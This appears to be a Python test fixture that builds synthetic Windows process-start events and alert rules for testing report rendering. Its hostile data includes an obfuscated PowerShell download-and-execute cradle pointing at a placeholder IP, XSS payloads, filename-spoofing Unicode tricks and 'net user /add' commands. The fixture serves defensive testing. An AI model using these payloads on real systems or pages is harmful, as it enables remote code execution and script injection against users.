"""Recordings made for reports: events given by fields, as JSON lines, and rules that alert on each start of a process."""
import base64
import gzip
import json
import random

RULES = r"""
- rule: Every Start
  desc: A process began. <b>Not bold.</b>
  condition: evt.type = process_start
  output: "started %proc.name command=%proc.cmdline parent=%proc.pname gparent=%proc.aname[2] user=%user.name path=%proc.exepath"
  priority: NOTICE
  source: windows
  tags: [maturity_sandbox, MITRE_TA0002_execution, T1059.001]
- rule: Account Made
  desc: Somebody made an account.
  condition: evt.type = process_start and proc.name = net.exe
  output: "account made (command=%proc.cmdline)"
  priority: CRITICAL
  source: windows
  tags: [maturity_sandbox, T1136.001]
"""

NAMES = ["cmd.exe", "powershell.exe", "whoami.exe", "net.exe", "rundll32.exe"]
BASE_NS = 1700000000 * 10**9
DECODED = "Write-Host 'decoded <script>alert(2)</script>'"
INNER = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"

# Texts that try to leave the page's data, or to be read as something else.
HOSTILE = [
    "</script><script>window.hit=1</script>", "<!-- <script>window.hit=2</script>", "]]><img src=x onerror=window.hit=3>",
    "<img src=http://203.0.113.9/x.png>", "a\u2028b\u2029c", "exe.\u202egpj.scr", "\u2066hidden\u2069\u200b\ufeff", "tab\there\r\nnew line",
    "nul\u0000 esc\u001b[31m bell\u0007", "\\u003cscript\\u003e \"quotes\" 'single' `tick` ${hit}", "&lt;b&gt; &amp; %3Cscript%3E",
    "javascript:window.hit=4", "\U000e0041 tag, \U0001f600 face, \ud7ff edge",
]


def start(pid, parent, name, command, at_ns, **more):
    event = {"evt.type": "process_start", "evt.rawtime": at_ns, "evt.hostname": "WEB-01", "proc.pid": pid, "proc.ppid": parent,
             "proc.name": name, "proc.exepath": "C:\\Windows\\System32\\" + name, "proc.cmdline": command, "user.name": "CONTOSO\\svc"}
    event.update(more)
    return event


def lines(events):
    return "".join(json.dumps(e) + "\n" for e in events)


def many(n):
    """n starts in a tree of many levels."""
    dice, at_ns, pids, events = random.Random(7), BASE_NS, [1000], []
    for i in range(n):
        at_ns += dice.randrange(10**6, 10**9)
        pid = 4000 + 4 * i
        name = NAMES[dice.randrange(len(NAMES))]
        command = "%s /c echo %d & net user a%d /add %s" % (name, i, i, "x" * dice.randrange(600))
        events.append(start(pid, dice.choice(pids[-200:]), name, command, at_ns))
        pids.append(pid)
    return lines(events)


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def hostile():
    """A chain of processes whose names, commands and users are hostile, and one command line of a megabyte."""
    events = [start(100, 4, "w3wp.exe", "w3wp.exe -ap DefaultAppPool", BASE_NS)]
    for i, text in enumerate(HOSTILE):
        events.append(start(200 + i, 100, "cmd.exe", "cmd.exe /c " + text, BASE_NS + (i + 1) * 10**9,
                            **{"user.name": "X\\" + text, "proc.exepath": "C:\\t\\" + text.replace("\\", "_") + ".exe"}))
    packed = base64.b64encode(gzip.compress(INNER.encode())).decode()
    outer = "$s=[Convert]::FromBase64String('%s'); %s" % (packed, DECODED)
    events.append(start(300, 100, "powershell.exe", "powershell.exe -NoP -enc " + encoded(outer), BASE_NS + 60 * 10**9))
    events.append(start(301, 100, "net.exe", "net.exe user " + "A" * (1 << 20), BASE_NS + 61 * 10**9))
    return lines(events)
